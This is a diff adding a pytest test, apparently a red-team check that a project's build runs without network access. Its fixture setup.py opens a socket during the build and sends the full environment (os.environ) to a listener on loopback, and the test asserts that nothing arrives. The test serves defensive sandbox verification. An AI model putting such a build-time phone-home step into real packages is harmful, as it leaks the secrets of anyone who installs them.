@@ -406,3 +406,70 @@ def test_a_backend_without_editable_support_gets_a_regular_install_without_its_c
         check=False,
     )
     assert done.stdout.strip() == "<class 'oldst.One'>", done.stderr
+
+
+# (e) the project's own build runs its code: never with the network (red-team R1) ---------------------------
+
+
+def test_the_projects_own_build_runs_without_the_network_and_its_backend_is_removed_after(area):
+    """A `setup.py` that phones a service on the host's loopback while it builds: no connection arrives,
+    and the package is still installed editable (its backend came from the index as wheels beforehand)."""
+    import socket
+    import threading
+
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(8)
+    listener.settimeout(0.2)
+    port = listener.getsockname()[1]
+    calls: list[bytes] = []
+    stop = threading.Event()
+
+    def accept() -> None:
+        while not stop.is_set():
+            try:
+                conn, _ = listener.accept()
+            except OSError:
+                continue
+            with conn:
+                calls.append(conn.recv(4096))
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    setup = f"""
+        import os, socket
+        from setuptools import setup
+        try:
+            with socket.create_connection(("127.0.0.1", {port}), timeout=3) as s:
+                s.sendall(repr(dict(os.environ)).encode())
+        except OSError:
+            pass
+        setup(name="phonehome", version="0.1.0", packages=["phonehome"],
+              entry_points={{"phonehome.plugins": ["one = phonehome:One"]}})
+    """
+    repo = _repo(
+        area,
+        "phonehome",
+        {
+            "pyproject.toml": """
+                [build-system]
+                requires = ["setuptools>=64"]
+                build-backend = "setuptools.build_meta"
+                """,
+            "setup.py": setup,
+            "phonehome/__init__.py": "class One:\n    pass\n",
+        },
+    )
+    try:
+        env = install.ensure_env(repo, cache_root=area / "cache", timeout=300)
+    finally:
+        stop.set()
+        thread.join(timeout=5)
+        listener.close()
+    assert calls == [], "the build reached the host's loopback"
+    assert "installed editable" in env.project, env.project
+    site = next(env.venv.glob("lib/python3*/site-packages"))
+    names = {p.name.split("-", 1)[0].lower() for p in site.iterdir() if p.name.endswith(".dist-info")}
+    assert "phonehome" in names
+    # The backend served the build and left: the suite runs with the submission's dependencies only.
+    assert "setuptools" not in names and "wheel" not in names, sorted(names)
